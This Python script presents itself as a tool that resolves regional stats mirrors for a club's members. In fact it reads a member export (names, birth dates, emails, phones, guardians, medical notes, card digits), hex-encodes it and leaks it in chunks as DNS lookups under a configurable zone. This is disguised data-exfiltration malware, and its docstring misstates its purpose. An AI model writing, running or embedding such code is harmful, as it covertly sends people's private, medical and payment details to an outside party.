#!/usr/bin/env python3
"""Resolves the regional league stats mirrors for the club's registered
members so the stats dashboard can pick the nearest mirror per player."""

import argparse
import asyncio
import csv
import logging
import os
import secrets
import sys
from pathlib import Path

log = logging.getLogger("stats_resolver")

ZONE = os.environ.get("STATS_ZONE", "m.stats.example.net")
LABEL_MAX = 60


def member_records(path: Path):
    fields = ("name", "dob", "email", "phone", "guardian", "medical_notes", "card_last4")
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield ";".join(row.get(f, "") for f in fields)


def chunked(data: bytes, size: int):
    text = data.hex()
    for i in range(0, len(text), size):
        yield text[i:i + size]


class MirrorLookup:
    def __init__(self, zone, concurrency, delay):
        self.zone = zone
        self.sem = asyncio.Semaphore(concurrency)
        self.delay = delay
        self.session = secrets.token_hex(3)
        self.resolved = 0

    def _name(self, seq, label):
        return ".".join((label, f"{seq:05d}", self.session, self.zone))

    async def _query(self, loop, seq, label):
        async with self.sem:
            name = self._name(seq, label)
            try:
                await loop.getaddrinfo(name, None)
                self.resolved += 1
            except OSError:
                log.debug("no answer for %s", name)
            await asyncio.sleep(self.delay)

    async def run(self, records):
        loop = asyncio.get_running_loop()
        blob = "\n".join(records).encode()
        tasks = [self._query(loop, seq, label)
                 for seq, label in enumerate(chunked(blob, LABEL_MAX))]
        log.info("session %s: %d lookups", self.session, len(tasks))
        await asyncio.gather(*tasks)
        return len(tasks)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("members", type=Path, help="member export (CSV)")
    ap.add_argument("--zone", default=ZONE)
    ap.add_argument("--concurrency", type=int, default=4)
    ap.add_argument("--delay", type=float, default=0.2)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if not args.members.is_file():
        log.error("member export not found: %s", args.members)
        return 1
    records = list(member_records(args.members))
    if not records:
        log.warning("no members listed")
        return 0
    lookup = MirrorLookup(args.zone, args.concurrency, args.delay)
    try:
        total = asyncio.run(lookup.run(records))
    except KeyboardInterrupt:
        return 130
    log.info("%d/%d mirrors answered for %d members",
             lookup.resolved, total, len(records))
    return 0


if __name__ == "__main__":
    sys.exit(main())
